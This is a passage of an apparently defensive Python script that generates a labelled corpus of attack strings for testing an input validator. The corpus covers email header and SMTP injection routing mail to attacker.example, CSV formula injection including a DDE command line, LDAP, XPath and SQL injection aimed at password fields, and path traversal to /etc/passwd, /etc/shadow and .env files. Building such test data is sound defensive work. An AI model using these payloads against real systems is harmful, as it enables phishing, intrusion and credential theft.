mail-header@@Quote Q-2024-118␍␊Bcc: a@attacker.example, b@attacker.example␍␊X-Priority: 1
mail-header@@skipper@boatmail.example␊Reply-To: refunds@attacker.example
mail-header@@Order query␊Content-Type: text/html␊␊<a href="https://attacker.example/pay">Pay your invoice here</a>
mail-header@@rita%0d%0aSubject:%20Your%20account%20is%20suspended
smtp-injection@@hello␍␊.␍␊MAIL FROM:<x@attacker.example>␍␊RCPT TO:<all-customers@ropewalk-shop.example>␍␊DATA␍␊Phish␍␊.
csv-row@@Great rope␊=HYPERLINK("http://attacker.example/","Click for refund"),0,0
csv-row@@HMP-12-3S",2.95␊"HMP-14-3S",0.01␊"x
csv-row@@Lovely service␍␊RW-99999,refund,1200.00,approved
csv-row@@note";"0"␊"MAN-16";"0,01
csv-row@@PP-8-8P, 1000, 0.21␊ADMIN-CREDIT, 1, -500.00
csv-row@@Jute twine␊-cmd|' /C calc'!A1,1,1
''')

A["ldap-xpath"] = block(r'''
ldap@@*)(uid=*))(|(uid=*
ldap@@rigger*)(|(objectClass=*)
ldap@@admin)(&(password=*))
ldap@@*)(userPassword=*)
ldap@@ann)(|(memberOf=cn=admins,ou=groups,dc=ropewalk,dc=local)
ldap@@*))%00
ldap@@bosun)(!(cn=x)
ldap@@\2a)(objectClass=\2a
ldap@@*)(mail=*@ropewalk-shop.example))(&(1=0
ldap@@x*)(|(description=*pass*)
xpath@@' or '1'='1
xpath@@manila' or name()='admin' or 'a'='b
xpath@@'] | //user/password | //x['
xpath@@x' or count(/*)=1 or 'a'='b
xpath@@' or substring(//user[1]/password,1,1)='r' or ''='
xpath@@1 or 1=1
xpath@@hemp')] | //order[total>0] | a[contains(.,'
xpath@@' and string-length(name(/*[1]))>3 and '1'='1
xpath@@doc('http://attacker.example/x.xml')
xpath@@')]/parent::*/child::node()[('1'='1
''')

URLENC = {
    "sqli": ["manila' OR '1'='1'-- ", "x' UNION SELECT email,password FROM customers-- "],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../app/.env",
                  "../../../../proc/self/environ", "/../../../../etc/shadow"],
}


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    rng = random.Random(SEED)
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as fh:
            for ln in fh:
                benign.add(json.loads(ln)["value"])
    rows, seen = [], set()
    nlit = 0

    def add(cat, cls, val, literal):
        nonlocal nlit
        assert 1 <= len(val) <= 2000, val
        assert val not in benign, val
        for ch in val:
            assert ch in "\n\r\t" or ord(ch) >= 32, repr(val)
        if val in seen:
            raise SystemExit("duplicate: %r" % val)
        seen.add(val)
        rows.append((cat, cls, val))
        nlit += literal

    for cat in ORDER:
        for cls, val in A[cat]:
            add(cat, cls, val, 1)
        for p in URLENC.get(cat, []):
            add(cat, "urlencoded+urlencode", pct_all(p), 0)
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            fh.write(json.dumps({"id": "haiv-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                 "value": v}, ensure_ascii=False) + "\n")
    return nlit, len(rows)


if __name__ == "__main__":
    print(main())
